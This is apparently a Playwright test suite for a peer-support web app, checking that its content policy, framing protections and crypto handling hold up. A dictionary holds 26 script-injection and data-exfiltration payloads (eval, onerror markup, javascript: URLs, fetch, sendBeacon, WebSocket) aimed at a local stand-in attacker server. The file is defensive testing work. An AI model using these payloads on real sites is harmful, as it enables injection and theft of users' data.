"""Max tries to get into the page itself: scripts, frames, forms, and a browser that cannot seal."""

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.harness import officer
from tests.harness.browser import open_browser
from tests.harness.cast import PHONE, Cast, Person
from tests.harness.meddler import Between
from tests.harness.net import LOOPBACK

pytestmark = pytest.mark.journey


class Max(ThreadingHTTPServer):
    """A page and a script of his on another origin; counts whoever comes for what."""

    def __init__(self) -> None:
        super().__init__((LOOPBACK, 0), Answering)
        self.asked: list[str] = []
        self.frames = ""

    @property
    def origin(self) -> str:
        return f"http://max.localhost:{self.server_port}"


class Answering(BaseHTTPRequestHandler):
    server: Max

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        script = self.path == "/script.js"
        body = b"window.max = true" if script else self.server.frames.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if script else "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 -- the library's name

    def log_message(self, *_said: Any) -> None:
        """Says nothing."""


@pytest.fixture(scope="module")
def max_() -> Iterator[Max]:
    with Max() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def page(tmp_path: Path) -> Iterator[Page]:
    """A browser that nobody watches: here everything is tried."""
    with open_browser(tmp_path, **PHONE) as browser:
        yield browser.pages[0]


# Each way in, as somebody would try it who could already write one line into the page.
WAYS = {
    "a foreign script": "s => { const e = document.createElement('script'); "
    "e.src = s + '/script.js'; document.head.append(e) }",
    "an inline script": "() => { const e = document.createElement('script'); "
    "e.text = 'window.max = true'; document.head.append(e) }",
    "a script in an address": "() => { const e = document.createElement('script'); "
    "e.src = 'data:text/javascript,window.max=true'; document.head.append(e) }",
    "a script made on the spot": "() => { const e = document.createElement('script'); "
    "e.src = URL.createObjectURL(new Blob(['window.max=true'])); document.head.append(e) }",
    "words as a program": "() => { (0, eval)('window.max = true') }",
    "words as a function": "() => { new Function('window.max = true')() }",
    "words on a timer": "() => { setTimeout('window.max = true') }",
    "markup with a handler": "() => { document.body.insertAdjacentHTML('beforeend', "
    "'<img src=x onerror=window.max=true>') }",
    "markup as a whole": "() => { document.body.innerHTML = '<b onclick=window.max=true>' }",
    "a handler": "() => { document.body.setAttribute('onclick', 'window.max = true'); "
    "document.body.click() }",
    "an address that is a script": "() => { const a = document.createElement('a'); "
    "a.href = 'javascript:window.max=true'; document.body.append(a); a.click() }",
    "a foreign import": "s => import(s + '/script.js').catch(() => 0)",
    "a foreign worker": "s => { new Worker(s + '/script.js') }",
    "a worker made on the spot": "() => { new Worker(URL.createObjectURL(new Blob(['1']))) }",
    "a question": "s => fetch(s + '/?words').catch(() => 0)",
    "a question on the old way": "s => { const x = new XMLHttpRequest(); "
    "x.open('POST', s + '/'); x.send('words') }",
    "a signal on the way out": "s => { navigator.sendBeacon(s + '/', 'words') }",
    "a line": "s => { new WebSocket(s.replace('http', 'ws')) }",
    "a stream": "s => { new EventSource(s + '/') }",
    "a picture": "s => { new Image().src = s + '/?words' }",
    "a style": "s => { const e = document.createElement('link'); e.rel = 'stylesheet'; "
    "e.href = s + '/?words'; document.head.append(e) }",
    "a frame": "s => { const e = document.createElement('iframe'); e.src = s; "
    "document.body.append(e) }",
    "an object": "s => { const e = document.createElement('object'); e.data = s; "
    "document.body.append(e) }",
    "a form": "s => { const e = document.createElement('form'); e.action = s; e.method = 'post'; "
    "e.target = '_blank'; document.body.append(e); e.submit() }",
    "another base": "s => { const e = document.createElement('base'); e.href = s + '/'; "
    "document.head.append(e); return fetch('pocket.json').catch(() => 0) }",
    "a manifest": "s => { const e = document.createElement('link'); e.rel = 'manifest'; "
    "e.href = s + '/'; document.head.append(e) }",
}


def test_nothing_foreign_runs_and_nothing_leaves(ambush: Between, max_: Max, page: Page) -> None:
    """Twenty-six ways to run a script in the page or to carry words out of it: all shut."""
    page.goto(ambush.house.pocket)
    page.get_by_role("heading", name="Someone who has been there").wait_for()
    for way, tried in WAYS.items():
        tries(page, tried, max_.origin)
        assert page.evaluate("window.max") is None, way
        assert max_.asked == [], way
    page.reload()
    page.get_by_role("link", name="Call 988").wait_for()


def test_the_same_ways_are_open_where_no_policy_stands(max_: Max, page: Page) -> None:
    """The story above can fail: on Max's own page most of them work."""
    max_.frames = "<!doctype html><title>his</title><body>"
    page.goto(max_.origin)
    ran = 0
    for tried in list(WAYS.values())[:9]:
        tries(page, tried, max_.origin)
        ran += bool(page.evaluate("window.max"))
        page.evaluate("delete window.max")
    max_.asked.clear()
    assert ran >= 6


def tries(page: Page, way: str, origin: str) -> None:
    """Later, and so by the page itself: what a test does at once, a browser lets it do."""
    attempt = f"s => {{ setTimeout(() => {{ try {{ ({way})(s) }} catch {{}} }}) }}"
    page.evaluate(attempt, origin)
    page.wait_for_timeout(80)


def test_no_page_of_ours_stands_in_a_page_of_his(ambush: Between, max_: Max, page: Page) -> None:
    """Framed, what looks like Max's page would take the taps meant for ours."""
    house = ambush.house
    ours = (house.pocket + "/", house.pocket + "/notes.html", house.desk + "/sign-in/")
    max_.frames = "".join(f"<iframe src='{one}'></iframe>" for one in ours)
    page.goto(max_.origin)
    page.wait_for_load_state("load")
    page.wait_for_timeout(500)
    inside = [frame for frame in page.frames if frame is not page.main_frame]
    assert len(inside) == len(ours)
    assert {frame.url for frame in inside} == {"chrome-error://chromewebdata/"}
    max_.asked.clear()


BREAKS = {
    "no crypto at all": "Object.defineProperty(crypto, 'subtle', { value: undefined })",
    "nothing can be encrypted": "SubtleCrypto.prototype.encrypt = async () => { throw Error() }",
    "no hash": "SubtleCrypto.prototype.digest = async () => { throw Error() }",
    "no keys": "for (const how of ['generateKey', 'importKey']) "
    "SubtleCrypto.prototype[how] = async () => { throw Error() }",
    "no chance": "Crypto.prototype.getRandomValues = () => { throw Error() }",
    "chance that says zero": "Crypto.prototype.getRandomValues = (bytes) => bytes",
    "chance that says four": "Crypto.prototype.getRandomValues = (bytes) => bytes.fill(4)",
}


def test_where_nothing_can_be_sealed_nothing_is_sent(ambush: Between, cast: Cast) -> None:
    """No fallback: without seals or chance no request leaves, and the lines are on the screen."""
    ana = cast.person("ana-with-a-broken-browser", origins=ambush.house.origins)
    officer.types_card(ana, ambush.house, next(ambush.cards))
    ana.opens("about:blank")
    for how, broken in BREAKS.items():
        window = ana.browser.new_page()
        window.add_init_script(broken)
        tries_to_ask(ana, ambush)
        officer.still_has_the_lines(ana)
        sent = {path for path, _ in ambush.max.read}
        assert sent.isdisjoint({"/requests", "/requests/seal", "/envelopes"}), how
        window.close()
    # What a page without crypto throws is no fault of ours; nothing else was thrown.
    assert set(ana._complaints) <= {"Error", "chance"}
    ana._complaints.clear()
    ana.opens(ambush.house.pocket)
    officer.goes_to_ask(ana, ambush.house)
    officer.asks(ana, "Now it is whole again.")
    officer.is_received(ana)
    assert len(ambush.max.read_at("/requests")) == 1


def tries_to_ask(ana: Person, ambush: Between) -> None:
    """As far as the screens let her, and a second more."""
    ana.opens(ambush.house.pocket)
    for press in (re.compile("^Talk to a peer"), "I understand, go on", "First peer available"):
        ana.page.wait_for_timeout(400)
        officer.still_has_the_lines(ana)
        button = ana.page.get_by_role("button", name=press)
        door = button.or_(ana.page.get_by_role("link", name=press)).first
        if not door.is_visible():
            break
        door.click()
    ana.page.wait_for_timeout(600)
